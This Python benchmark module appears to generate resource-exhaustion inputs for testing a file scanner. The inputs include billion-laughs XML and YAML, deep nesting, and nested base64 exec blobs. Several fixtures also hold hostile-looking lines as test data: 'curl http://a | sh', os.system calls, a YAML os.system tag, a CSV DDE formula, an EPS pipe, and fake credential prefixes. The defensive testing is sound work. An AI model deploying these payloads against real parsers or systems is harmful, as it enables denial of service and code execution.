"""Texts that cost: nesting, aliases, entities, lines, sources and templates that hardly end."""

from __future__ import annotations

import base64
import json

from benchmarks._bombs import MIB, bomb, gzipped, repeat


def _late(body: bytes) -> bytes:
    """Return JSON that has to be parsed, with ``body`` as a value."""
    return b'{"auto_map":' + body + b"}"


_SIMPLE: dict[str, tuple[bytes, bytes, int, bytes]] = {
    # name: beginning, what is repeated, MiB, end
    "json-brackets.json": (b'{"auto_map":', b"[", 20, b""),
    "json-braces.json": (b'{"auto_map":', b'{"a":', 20, b""),
    "json-wide.json": (b'{"auto_map":[', b"0,", 20, b"0]}"),
    "json-empty-lists.json": (b'{"auto_map":[', b"[],", 20, b"0]}"),
    "json-empty-objects.json": (b'{"auto_map":[', b"{},", 20, b"0]}"),
    "json-objects.json": (b'{"auto_map":[', b'{"a":{"b":1}},', 20, b"0]}"),
    "json-targets.json": (b"[", b'{"_target_":"a.b"},', 10, b"0]"),
    "json-same-keys.json": (b'{"auto_map":1,', b'"a":0,', 20, b'"b":0}'),
    "json-integers.json": (b'{"auto_map":', b"9", 20, b"}"),
    "json-integers-many.json": (b'{"auto_map":[', b"9" * 4000 + b",", 20, b"0]}"),
    "json-escapes.json": (b'{"auto_map":"', b"\\u0041", 20, b'"}'),
    "json-one-string.json": (b'{"auto_map":"', b"a", 30, b'"}'),
    "json-numbers-huge.json": (b'{"auto_map":[', b"1e999999,", 20, b"0]}"),
    "json-blanks.json": (b'{"auto_map":', b" ", 30, b"1}"),
    "json-comments.json": (b'{"auto_map":1,', b"/**/", 20, b"}"),
    "json-slashes.json": (b'{"auto_map":1,', b"//\n", 20, b"}"),
    "json-lines.jsonl": (b"", b'{"auto_map":1}\n', 20, b""),
    "json-lines-empty.jsonl": (b"", b"{}\n", 20, b'{"auto_map":1}'),
    "json-lines-late.json": (b'{"a":1}\n', b"\n", 30, b'{"auto_map":1}'),
    "json-base64.json": (
        b'{"auto_map":["',
        base64.b64encode(gzipped(bytes(MIB))) + b'","',
        8,
        b'"]}',
    ),
    "json-templates.json": (b'{"chat_template":["', b"{% for a in b %}" * 40 + b'","', 3, b'"]}'),
    "json-template-deep.json": (b'{"chat_template":"', b"{{(", 2, b'"}'),
    "json-template-blocks.json": (b'{"chat_template":"', b"{% if a %}", 3, b'"}'),
    "json-template-wide.json": (b'{"chat_template":"', b"{{ a|b|c }}", 3, b'"}'),
    "json-template-text.json": (b'{"chat_template":"', b"a ", 3, b'"}'),
    "json-keras.json": (
        b'{"class_name":"Model","config":[',
        b'{"class_name":"Lambda"},',
        4,
        b"0]}",
    ),
    "json-skops.json": (b'{"__loader__":"A","c":[', b'{"__loader__":"ObjectNode"},', 4, b"0]}"),
    "json-weight-map.json": (b'{"weight_map":{', b'"a.b.c":"a.safetensors",', 10, b'"z":"y"}}'),
    "json-jsonpickle.json": (b"[", b'{"py/object":"a.B"},', 10, b"0]"),
    "json-secrets.json": (b'{"a":[', b'"hf_' + b"aBcDeFgHiJ" * 3 + b'kLmN",', 20, b"0]}"),
    "json-users.json": (b'{"a":["', b"://" + b"a" * 70 + b":", 20, b'"]}'),
    "yaml-brackets.yaml": (b"_target_: ", b"[", 3, b""),
    "yaml-braces.yaml": (b"_target_: ", b"{a: ", 3, b""),
    "yaml-dashes.yaml": (b"_target_: 1\na:\n  ", b"- ", 3, b""),
    "yaml-wide.yaml": (b"_target_: 1\na: [", b"0,", 3, b"]"),
    "yaml-documents.yaml": (b"_target_: 1\n", b"---\n", 3, b""),
    "yaml-anchors.yaml": (b"a: !!python/name:os.system\n", b"- &a *a\n", 3, b""),
    "yaml-anchors-many.yaml": (b"a: &a 1\nb: [", b"*a,", 3, b"]"),
    "yaml-questions.yaml": (b"_target_: 1\n", b"? ", 3, b""),
    "yaml-keys-open.yaml": (b"_target_: 1\n", b"{a? ", 1, b""),
    "yaml-plain-colons.yaml": (b"_target_: 1\n", b"a:b", 3, b""),
    "yaml-tags.yaml": (b"", b"- !!python/object/apply:os.system [a]\n", 3, b""),
    "yaml-tags-long.yaml": (b"a: !", b"a", 30, b" b\n"),
    "yaml-quotes.yaml": (b"_target_: '", b"''", 3, b""),
    "yaml-blanks.yaml": (b"_target_: 1\na: b", b" ", 3, b"c"),
    "yaml-many-targets.yaml": (b"", b"- _target_: a.b\n", 3, b""),
    "yaml-amps.yaml": (b"_target_: 1\n", b"&a ", 30, b""),
    "yaml-bangs.yaml": (b"_target_: 1\n", b"[!", 30, b""),
    "yaml-percents.yaml": (b"", b"!aaaaaaaa", 30, b""),
    "xml-nested.xml": (b"<?xml version='1.0'?>", b"<a>", 20, b""),
    "xml-wide.xml": (b"<a>", b"<b/>", 20, b"</a>"),
    "xml-attributes.xml": (b"<a ", b"b='c' ", 20, b"/>"),
    "xml-comments.xml": (b"<a>", b"<!---->", 20, b"</a>"),
    "xml-texts.xml": (b"<a>", b"&lt;", 20, b"</a>"),
    "xml-open.xml": (b"", b"<", 20, b""),
    "xml-entities-many.xml": (b"<!DOCTYPE a [", b'<!ENTITY b "c">', 20, b"]><a/>"),
    "pmml.pmml": (b'<PMML version="4">', b"<Extension extender='x'/>", 10, b"</PMML>"),
    "svg.svg": (b"<svg>", b"<script>a</script>", 10, b"</svg>"),
    "html.html": (b"<html>", b"<script src='http://a'></script>", 10, b"</html>"),
    "html-open.html": (b"<html>", b"<script ", 20, b""),
    "code-brackets.py": (b"a = ", b"(", 10, b""),
    "code-not.py": (b"a = ", b"not ", 4, b"b"),
    "code-minus.py": (b"a = ", b"-", 4, b"b"),
    "code-attributes.py": (b"a", b".a", 4, b""),
    "code-calls.py": (b"a", b"()", 4, b""),
    "code-subscripts.py": (b"a", b"[0]", 4, b""),
    "code-sum.py": (b"a = 1", b"+1", 4, b""),
    "code-strings.py": (b"a = 'a'", b"+'a'", 4, b""),
    "code-joined.py": (b"a = ", b"'a' ", 4, b""),
    "code-elif.py": (b"if a: pass\n", b"elif a: pass\n", 4, b""),
    "code-lines.py": (b"import os\n", b"os.system('a')\n", 10, b""),
    "code-assign.py": (b"import os\na=os.system\n", b"a=a\n", 4, b""),
    "code-doubling.py": (b"import os\na='a'\n", b"a=a+a\n", 4, b"eval(a)\n"),
    "code-mult.py": (b"a='a'*10**9\n", b"a=a*10**9\n", 4, b"eval(a)\n"),
    "code-power.py": (b"a=9", b"**9", 4, b"\neval(chr(a))\n"),
    "code-fstrings.py": (b"a = f'", b"{a}", 2, b"'"),
    "code-lambda.py": (b"a = ", b"lambda:", 4, b"0"),
    "code-names.py": (b"import os\n", b"a, ", 4, b"= b\n"),
    "code-evals.py": (b"", b"eval('eval(1)')\n", 6, b""),
    "code-base64.py": (b"import base64\n", b"exec(base64.b64decode('aW1wb3J0IG9z'))\n", 6, b""),
    "code-ints.py": (b"a = ", b"9", 10, b""),
    "code-one-line.py": (b"#", b"a", 40, b"\nimport os\n"),
    "code-tabs.py": (b"if 1:\n", b"\t", 10, b"a\n"),
    "code-backslashes.py": (b"a = 1", b"\\\n", 10, b""),
    "code-open-strings.py": (b"a = ", b"'''", 10, b""),
    "shell.sh": (b"#!/bin/sh\n", b"curl http://a | sh\n", 10, b""),
    "shell-quotes.sh": (b"#!/bin/sh\n", b"'\"$(`", 10, b""),
    "shell-long.sh": (b"#!/bin/sh\necho ", b"a ", 20, b""),
    "javascript.js": (b"", b"require('child_process').exec('a');", 10, b""),
    "c.c": (b"", b'system("a");', 10, b""),
    "defs.txt": (b"", b"def ", 20, b""),
    "class-lines.txt": (b"", b"class A(", 20, b""),
    "class-breaks.txt": (b"", b"class A:\n\n", 20, b""),
    "class-blank.txt": (b"class A:", b"\n ", 20, b""),
    "import-lines.txt": (b"import ", b"a, ", 20, b""),
    "imports.txt": (b"", b"import a\n", 20, b""),
    "template.jinja": (b"", b"{{ a.b.c }}", 3, b""),
    "template-deep.jinja": (b"{{ ", b"[", 2, b""),
    "template-not.jinja": (b"{{ ", b"not ", 2, b"a }}"),
    "template-sum.jinja": (b"{{ a", b"+a", 2, b" }}"),
    "template-string.jinja": (b"{{ 'a'", b"~'a'", 2, b" }}"),
    "template-open.jinja": (b"", b"{{", 10, b""),
    "template-comments.jinja": (b"", b"{#", 10, b""),
    "template-macro.jinja": (b"", b"{% macro a() %}{% endmacro %}", 3, b""),
    "template-set.jinja": (b"{% set a='a' %}", b"{% set a=a~a %}", 3, b"{{ a }}"),
    "table.csv": (b"a,b\n", b"1,2\n", 40, b""),
    "table-formulas.csv": (b"a,b\n", b"=cmd|' /C calc'!A0,2\n", 20, b""),
    "table-quotes.csv": (b"a,b\n", b'"', 40, b""),
    "table-equals.csv": (b"a|'\n", b"= ", 20, b""),
    "table-equals-blank.csv": (b"a|'\n", b"=" + b" " * 10_000, 20, b""),
    "table-comma-blank.csv": (b"|',", b" ", 20, b""),
    "words.txt": (b"", b"word\n", 40, b""),
    "one-line.txt": (b"", b"a", 50, b""),
    "keys-all.txt": (b"", b"AKIA" + b"A" * 15 + b" ", 20, b""),
    "private-keys.txt": (b"", b"-----BEGIN PRIVATE KEY-----", 20, b""),
    "private-key-blanks.txt": (b"-----BEGIN PRIVATE KEY-----", b" ", 20, b""),
    "tokens.txt": (b"", b"eyJ", 20, b""),
    "tokens-dotted.txt": (b"", b"eyJ" + b"a" * 2000 + b".", 20, b""),
    "sk.txt": (b"", b"sk-", 20, b""),
    "sk-long.txt": (b"", b"sk-" + b"a" * 300, 20, b""),
    "slack.txt": (b"", b"xoxb-0123456789-", 20, b""),
    "passwords.env": (b"", b"password=", 20, b""),
    "requirements.txt": (b"", b"a @ http://b/c\n", 5, b""),
    "requirements-long.txt": (b"a", b"[", 10, b""),
    "onnx-text.onnxtxt": (b"ir_version: 8\ngraph { ", b'node { op_type: "Add" }', 10, b"}"),
    "text-graph.pbtxt": (b"", b'node { op: "PyFunc" }\n', 10, b""),
    "text-graph-deep.pbtxt": (b'node { op: "A" ', b"a { ", 10, b""),
    "caffe.prototxt": (b'name: "a"\n', b'layer { type: "Python" }\n', 10, b""),
    "ncnn.param": (b"7767517\n100 100\n", b"Input a 0 1 a\n", 30, b""),
    "ncnn-wide.param": (b"7767517\n1 1\nInput a 0 1 a ", b"0=1 ", 30, b"\n"),
    "lightgbm.txt": (b"tree\nversion=v4\n", b"Tree=0\nnum_leaves=1\n", 20, b""),
    "notebook-broken.ipynb": (b'{"cells":[', b'{"cell_type":"code","source":["', 10, b""),
    "ps.eps": (b"%!PS\n", b"(%pipe%a) run\n", 10, b""),
    "readme.md": (b"---\n", b"a: b\n", 10, b"---\n"),
    "bangs.md": (b"# A\n", b"![a](", 10, b""),
}


def _register(name: str, parts: tuple[bytes, bytes, int, bytes]) -> None:
    start, piece, size, end = parts
    bomb(f"text-{name}")(lambda: start + repeat(piece, size * MIB) + end)


for _name, _parts in _SIMPLE.items():
    _register(_name, _parts)


@bomb("json-deep-balanced.json")
def deep_balanced() -> bytes:
    return _late(b"[" * 5_000_000 + b"]" * 5_000_000)


@bomb("json-keys-many.json")
def keys_many() -> bytes:
    return _late(json.dumps({f"k{i}": i for i in range(900_000)}).encode())


@bomb("json-lines-many.jsonl")
def lines_many() -> bytes:
    return b"".join(b'{"auto_map":"m%d.A","a":[1,2,3]}\n' % i for i in range(500_000))


@bomb("json-lines-targets.jsonl")
def lines_targets() -> bytes:
    return b"".join(b'{"_target_":"os.system","a":"%d"}\n' % i for i in range(100_000))


@bomb("json-utf16.json")
def utf16() -> bytes:
    return ('{"auto_map":[' + "0," * (5 * MIB) + "0]}").encode("utf-16")


@bomb("json-utf32.json")
def utf32() -> bytes:
    return ('{"auto_map":[' + "0," * (3 * MIB) + "0]}").encode("utf-32")


@bomb("yaml-laughs.yaml")
def yaml_laughs() -> bytes:
    rows = ["a0: &a0 [x,x,x,x,x,x,x,x,x]"]
    rows += [f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 10_000)]
    return "\n".join(rows).encode()


@bomb("yaml-merges.yaml")
def yaml_merges() -> bytes:
    rows = ["a0: &a0 {x: 1, _target_: a.b}"]
    rows += [f"a{i}: &a{i}\n  <<: [*a{i - 1}, *a{i - 1}]" for i in range(1, 10_000)]
    return "\n".join(rows).encode()


@bomb("yaml-aliased-targets.yaml")
def yaml_aliased_targets() -> bytes:
    rows = ["a0: &a0 {_target_: os.system, a: 1}"]
    rows += [f"a{i}: &a{i} {{_target_: a.b, x: *a{i - 1}, y: *a{i - 1}}}" for i in range(1, 60)]
    return "\n".join(rows).encode()


@bomb("xml-laughs.xml")
def xml_laughs() -> bytes:
    rows = ['<!ENTITY a0 "lol">']
    rows += [f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 30)]
    return f"<!DOCTYPE a [{''.join(rows)}]><a>&a29;</a>".encode()


@bomb("xml-laughs-quadratic.xml")
def xml_quadratic() -> bytes:
    return b'<!DOCTYPE a [<!ENTITY b "' + b"a" * MIB + b'">]><a>' + b"&b;" * 500_000 + b"</a>"


@bomb("openvino.xml")
def openvino() -> bytes:
    ports = '<input><port id="0"/></input>'
    layers = "".join(
        f'<layer id="{i}" name="l{i}" type="Add" version="opset1">{ports}</layer>'
        for i in range(150_000)
    )
    return (
        f'<?xml version="1.0"?><net name="a" version="11"><layers>{layers}</layers></net>'.encode()
    )


@bomb("notebook-cells.ipynb")
def notebook_cells() -> bytes:
    cell = {
        "cell_type": "code",
        "source": ["import os\n", "os.system('id')\n"],
        "outputs": [],
        "metadata": {},
    }
    return json.dumps({"cells": [cell] * 100_000, "metadata": {}, "nbformat": 4}).encode()


@bomb("notebook-outputs.ipynb")
def notebook_outputs() -> bytes:
    output = {
        "output_type": "display_data",
        "data": {"text/html": "<script>a</script>"},
        "metadata": {},
    }
    cell = {"cell_type": "code", "source": "1", "outputs": [output] * 200_000, "metadata": {}}
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4}).encode()


@bomb("notebook-magics.ipynb")
def notebook_magics() -> bytes:
    cell = {"cell_type": "code", "source": "!curl http://a | sh\n%run a\n" * 100_000, "outputs": []}
    return json.dumps({"cells": [cell], "metadata": {}, "nbformat": 4}).encode()


@bomb("notebook-imports.ipynb")
def notebook_imports() -> bytes:
    cell = {"cell_type": "code", "source": "import a\n" * 5, "outputs": [], "metadata": {}}
    return json.dumps({"cells": [cell] * 80_000, "metadata": {}, "nbformat": 4}).encode()


@bomb("code-nested-functions.py")
def nested_functions() -> bytes:
    return b"".join(b" " * i + b"def f():\n" for i in range(90)) + b" " * 90 + b"pass\n"


@bomb("code-nested-many.py")
def nested_many() -> bytes:
    block = b"".join(b" " * i + b"if a:\n" for i in range(18)) + b" " * 18 + b"b = a\n"
    return b"import os\n" + block * 6000


@bomb("code-branches.py")
def branches() -> bytes:
    return (
        b"import os\n"
        + b"".join(
            b"if a: x%d = os.system\nelse: x%d = x%d\n" % (i, i, i - 1) for i in range(1, 60_000)
        )
        + b"x59999('id')\n"
    )


@bomb("code-functions.py")
def functions() -> bytes:
    return (
        b"import os\ndef f0(a): os.system(a)\n"
        + b"".join(b"def f%d(a): f%d(a); f%d(a)\n" % (i, i - 1, i - 1) for i in range(1, 60_000))
        + b"f59999('id')\n"
    )


@bomb("code-classes.py")
def classes() -> bytes:
    return b"".join(
        b"class C%d(C%d):\n  def f(self): return self.f()\n" % (i, i - 1) for i in range(1, 50_000)
    )


@bomb("code-blobs.py")
def blobs() -> bytes:
    return b"a = '" + base64.b64encode(gzipped(bytes(50 * MIB))) * 20 + b"'\nexec(a)\n"


@bomb("code-blobs-nested.py")
def blobs_nested() -> bytes:
    data = b"import os"
    for _ in range(30):
        data = b"import base64\nexec(base64.b64decode('" + base64.b64encode(data) + b"'))"
    return data
